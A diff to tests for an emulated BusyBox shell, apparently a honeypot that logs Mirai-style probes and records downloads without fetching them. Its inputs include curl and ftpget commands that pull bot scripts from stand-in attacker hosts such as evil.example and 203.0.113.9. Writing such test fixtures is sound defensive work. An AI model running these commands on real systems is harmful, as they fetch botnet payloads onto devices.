@@ -31,11 +31,13 @@ def shell(arch: str = "armv7l") -> BusyBoxShell:
 
 def test_login_words_and_applet_probe() -> None:
     sh = shell()
-    for word in ("enable", "system", "shell", "sh", "linuxshell"):
+    for word in ("enable", "system", "shell", "linuxshell"):
         result = sh.run(word)
-        assert result.output == ""
-        assert result.events == (ShellEvent("command.input", input=word),)
+        assert result.output == f"-sh: {word}: not found\n"
+        assert result.events == (ShellEvent("command.failed", input=word),)
         assert not result.exit
+    result = sh.run("sh")
+    assert result.output == "" and result.events == (ShellEvent("command.input", input="sh"),)
     result = sh.run("/bin/busybox MIRAI")
     assert result.output == "MIRAI: applet not found\n"
     assert result.events == (ShellEvent("command.failed", input="/bin/busybox MIRAI"),)
@@ -83,7 +85,8 @@ def test_cd_chain_stops_at_first_success() -> None:
     assert [e.input for e in result.events] == ["cd /tmp"]
     assert sh.run("pwd").output == "/tmp\n"
     result = sh.run("cd /nonexistent || cd /var/run || cd /mnt; pwd")
-    assert result.output == "-sh: cd: can't cd to /nonexistent\n/var/run\n"
+    assert result.output == \
+        "-sh: cd: can't cd to /nonexistent: No such file or directory\n/var/run\n"
 
 
 def test_download_recorded_never_fetched() -> None:
@@ -124,7 +127,8 @@ def test_other_downloaders() -> None:
     assert result.events[-1] == ShellEvent("file_download",
                                            url="ftp://anonymous:x@203.0.113.9/bins/bot.sh",
                                            outfile="/tmp/bot.sh", protocol="ftp")
-    assert result.output == ("ftpget: can't connect to remote host (203.0.113.9): "
+    assert result.output == ("Connecting to 203.0.113.9 (203.0.113.9:21)\n"
+                             "ftpget: can't connect to remote host (203.0.113.9): "
                              "Connection timed out\n")
     result = sh.run("curl -s -o /tmp/k http://203.0.113.9:8080/k || "
                     "curl -O https://evil.example/a/b.sh")
